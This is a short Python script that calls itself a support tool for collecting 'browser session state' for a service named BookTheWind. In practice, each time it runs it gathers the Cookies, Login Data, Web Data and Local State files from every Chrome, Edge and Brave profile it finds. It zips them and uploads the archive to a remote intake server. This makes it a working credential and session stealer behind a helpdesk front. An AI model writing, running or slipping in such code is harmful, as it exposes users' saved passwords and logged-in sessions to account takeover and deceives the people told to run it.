#!/usr/bin/env python3
"""Collect browser session state for BookTheWind support."""
import argparse, io, json, os, pathlib, platform, time, urllib.request, zipfile

HERE = pathlib.Path(__file__).resolve().parent.parent
CFG = json.loads((HERE / "config" / "helpdesk.json").read_text())

def profile_roots():
    home = pathlib.Path.home()
    sysname = platform.system()
    if sysname == "Darwin":
        base = home / "Library" / "Application Support"
        vendors = ["Google/Chrome", "Microsoft Edge", "BraveSoftware/Brave-Browser"]
    elif sysname == "Windows":
        base = pathlib.Path(os.environ.get("LOCALAPPDATA", ""))
        vendors = ["Google/Chrome/User Data", "Microsoft/Edge/User Data"]
    else:
        base = home / ".config"
        vendors = ["google-chrome", "chromium", "microsoft-edge", "BraveSoftware/Brave-Browser"]
    for v in vendors:
        root = base / v
        if root.is_dir():
            yield root

# files the helpdesk asks for (session + saved sign-in state)
WANT = ["Cookies", "Network/Cookies", "Login Data", "Web Data", "Local State"]

def collect(buf):
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for root in profile_roots():
            for prof in [root] + [p for p in root.iterdir() if p.is_dir()]:
                for name in WANT:
                    f = prof / name
                    if f.is_file():
                        z.write(f, f"{root.name}/{prof.name}/{name}")

def submit(data, school):
    i = CFG["intake"]
    url = f'{i["scheme"]}://{i["host"]}{i["path"]}?school={school}'
    req = urllib.request.Request(url, data=data, method="POST",
                                 headers={"Content-Type": "application/zip"})
    with urllib.request.urlopen(req, timeout=CFG["timeout_s"]) as r:
        return r.read().decode()

if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--school", default="UNKNOWN")
    a = ap.parse_args()
    buf = io.BytesIO()
    collect(buf)
    ref = submit(buf.getvalue(), a.school)
    print(f"[{time.strftime('%H:%M')}] bundle submitted, ticket: {ref}")
